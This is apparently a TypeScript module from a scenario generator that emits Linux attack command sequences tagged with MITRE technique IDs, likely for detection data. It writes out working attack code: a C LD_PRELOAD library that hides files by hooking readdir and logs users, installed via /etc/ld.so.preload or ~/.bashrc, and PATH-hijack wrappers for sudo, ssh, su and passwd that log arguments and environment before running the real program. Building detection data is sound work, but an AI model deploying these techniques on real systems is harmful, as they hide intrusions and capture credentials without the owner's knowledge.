import type { Attack } from '../scenario.ts';
import { maybe, root, workFile, write } from '../ways.ts';

const LIBRARY = `#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <dirent.h>
#include <stdlib.h>
static const char *word = "WORD";
struct dirent *readdir(DIR *d) {
  static struct dirent *(*next)(DIR *);
  if (!next) next = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  while ((e = next(d)) && strstr(e->d_name, word)) ;
  return e;
}
__attribute__((constructor)) static void begin(void) {
  FILE *f = fopen("LOG", "a");
  if (f) { fprintf(f, "%s\\n", getenv("USER")); fclose(f); }
}`;

/** A library of one's own comes before those of the programs. */
const preload: Attack = {
  name: 'library-preloaded',
  family: 'library-preloaded',
  techniques: ['T1574.006', 'T1014', 'T1564.001'],
  as: 'either',
  needs: ['gcc', 'sudo'],
  lines: (draw, place) => {
    const word = draw.word();
    const source = `/tmp/${draw.word()}.c`;
    const all = place.user === 'root' || draw.chance(0.4);
    const library = all
      ? `/usr/${draw.pick(['lib', 'local/lib', 'lib/x86_64-linux-gnu'])}/lib${draw.word()}.so`
      : workFile(draw, place, '.so');
    const built = all ? `/tmp/${word}.so` : library;
    const log = `/tmp/.${draw.word()}`;
    return [
      write(draw, source, LIBRARY.replace('WORD', word).replace('LOG', log)),
      `gcc -shared -fPIC -o ${built} ${source} -ldl`,
      ...maybe(draw, 0.7, `rm -f ${source}`),
      ...(all ? [root(place, `cp ${built} ${library}`)] : []),
      ...maybe(draw, 0.4, `touch /tmp/${word}`),
      ...draw.some(
        [
          `LD_PRELOAD=${library} ls /tmp`,
          `LD_PRELOAD=${library} id`,
          `export LD_PRELOAD=${library}; ls; unset LD_PRELOAD`,
          `LD_PRELOAD=${library} bash -c 'ls /tmp | head -3'`,
        ],
        draw.int(1, 2),
      ),
      ...(all
        ? [
            draw.pick([
              `echo ${library} | ${root(place, 'tee /etc/ld.so.preload')}`,
              root(place, `bash -c "echo ${library} >> /etc/ld.so.preload"`),
            ]),
            'ls /tmp',
            ...maybe(draw, 0.4, root(place, 'rm -f /etc/ld.so.preload')),
          ]
        : maybe(draw, 0.4, `echo 'export LD_PRELOAD=${library}' >> ~/.bashrc`)),
      ...maybe(draw, 0.4, `cat ${log}`),
    ];
  },
};

/** A program of one's own is found before the true one. */
const path: Attack = {
  name: 'path-hijacked',
  family: 'path-hijacked',
  techniques: ['T1574.007', 'T1056', 'T1546.004'],
  as: 'either',
  needs: ['sudo', 'curl', 'ssh', 'git'],
  lines: (draw, place) => {
    const folder = draw.pick([
      `${place.home}/.local/bin`,
      `${place.home}/bin`,
      `/tmp/.${draw.word()}`,
      '/usr/local/bin',
    ]);
    const program = draw.pick(['sudo', 'ssh', 'ls', 'git', 'passwd', 'su', 'curl']);
    const log = workFile(draw, place, '.log');
    const as = (command: string): string => (folder.startsWith('/usr') ? root(place, command) : command);
    const made = `/tmp/${draw.word()}`;
    return [
      ...maybe(draw, 0.4, 'echo $PATH', `which -a ${program}`),
      as(`mkdir -p ${folder}`),
      write(
        draw,
        made,
        `#!/bin/bash\necho "$(date +%s) $USER $*" >> ${log}\n${draw.pick([`env >> ${log}`, `tty >> ${log}`, `id >> ${log}`])}\nexec /usr/bin/${program} "$@"`,
      ),
      as(`mv ${made} ${folder}/${program}`),
      as(`chmod 755 ${folder}/${program}`),
      ...maybe(draw, 0.6, `echo 'export PATH=${folder}:$PATH' >> ~/.bashrc`),
      `PATH=${folder}:$PATH ${program} --version 2>&1 | head -2`,
      ...maybe(draw, 0.5, `export PATH=${folder}:$PATH; hash -r; ${program} --help 2>&1 | head -2`),
      ...maybe(draw, 0.5, `cat ${log}`),
      ...maybe(draw, 0.3, as(`rm -f ${folder}/${program}`)),
    ];
  },
};

export const HIJACK: readonly Attack[] = [preload, path];
